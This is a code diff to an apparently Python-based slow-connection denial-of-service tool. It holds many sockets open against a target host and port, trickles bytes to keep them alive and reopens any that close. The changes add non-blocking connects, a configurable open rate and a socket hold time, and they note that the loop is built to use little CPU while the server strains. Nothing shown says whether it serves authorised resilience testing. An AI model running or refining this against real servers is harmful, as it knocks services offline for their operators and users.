@@ -17,15 +17,17 @@ import time
 from collections import deque
 from dataclasses import asdict, dataclass
 
-OPENED_PER_S = 400.0  #: at first
-REOPENING_S = 5.0  #: for all sockets: a fifth of them each second at most is opened again
+OPENED_PER_S = 400.0  #: at first, and at most that many again
 TRICKLE_INTERVAL_S = 3.0
 _POLL_INTERVAL_S = 0.02
 
 
 @dataclass(frozen=True)
 class Attack:
-    """What each socket sends at first, and then every few seconds. A socket that is closed is opened again."""
+    """What each socket sends at first, and then every few seconds. A socket that is closed is opened again.
+
+    The process is one loop that sends and receives little, so that it competes with the server for next to no CPU time.
+    """
 
     host: str
     port: int
@@ -33,6 +35,8 @@ class Attack:
     first: str = ""  #: ISO 8859-1
     then: str = ""
     source: str = ""  #: the address that the sockets are bound to
+    opened_per_s: float = OPENED_PER_S
+    held_s: float = 0.0  #: after which a socket is closed; 0 keeps it until the server closes it
 
 
 class Attackers:
@@ -71,6 +75,7 @@ class _Sockets:
         self._first, self._then = attack.first.encode("latin-1"), attack.then.encode("latin-1")
         self._sockets: dict[int, socket.socket] = {}
         self._due: deque[tuple[float, socket.socket]] = deque()  #: when each sends next
+        self._ends: deque[tuple[float, socket.socket]] = deque()  #: when each is closed
         self._poll = select.epoll()
         self._poll.register(sys.stdin, select.EPOLLIN)
         self._opened = 0
@@ -80,9 +85,9 @@ class _Sockets:
         allowance = 0.0
         while True:
             now = time.monotonic()
-            is_first = self._opened < self._attack.number
-            allowance += (now - last) * (OPENED_PER_S if is_first else self._attack.number / REOPENING_S)
+            allowance += (now - last) * self._attack.opened_per_s
             last = now
+            self._let_go(now)
             allowance = min(allowance, self._attack.number - len(self._sockets))
             while allowance >= 1:
                 self._open(now)
@@ -92,22 +97,40 @@ class _Sockets:
                 began = now
                 sys.stdout.write(f"{self._opened} {len(self._sockets)}\n")
                 sys.stdout.flush()
-            for number, _ in self._poll.poll(_POLL_INTERVAL_S):
+            for number, events in self._poll.poll(_POLL_INTERVAL_S):
                 if number == sys.stdin.fileno():
                     return
-                self._receive(number)
+                if events & select.EPOLLOUT:
+                    self._begin(number)
+                else:
+                    self._receive(number)
 
     def _open(self, now: float) -> None:
-        source = (self._attack.source, 0) if self._attack.source else None
-        client = socket.create_connection((self._attack.host, self._attack.port), timeout=60, source_address=source)
+        client = socket.socket()
         client.setblocking(False)
+        if self._attack.source:
+            client.bind((self._attack.source, 0))
+        with contextlib.suppress(BlockingIOError):
+            client.connect((self._attack.host, self._attack.port))
         self._sockets[client.fileno()] = client
-        self._poll.register(client, select.EPOLLIN | select.EPOLLRDHUP)
-        with contextlib.suppress(OSError):
-            client.send(self._first)
+        self._poll.register(client, select.EPOLLOUT)
         if self._then:
             self._due.append((now + TRICKLE_INTERVAL_S, client))
+        if self._attack.held_s:
+            self._ends.append((now + self._attack.held_s, client))
+
+    def _begin(self, number: int) -> None:
+        """Send the first bytes: the socket is connected, or has failed."""
+        self._poll.modify(number, select.EPOLLIN | select.EPOLLRDHUP)
+        with contextlib.suppress(OSError):
+            self._sockets[number].send(self._first)
         self._opened += 1
+
+    def _let_go(self, now: float) -> None:
+        while self._ends and self._ends[0][0] <= now:
+            _, client = self._ends.popleft()
+            if client.fileno() >= 0:
+                self._close(client.fileno())
 
     def _trickle(self, now: float) -> None:
         while self._due and self._due[0][0] <= now:
@@ -125,6 +148,9 @@ class _Sockets:
             return
         except OSError:
             pass
+        self._close(number)
+
+    def _close(self, number: int) -> None:
         self._poll.unregister(number)
         self._sockets.pop(number).close()
 
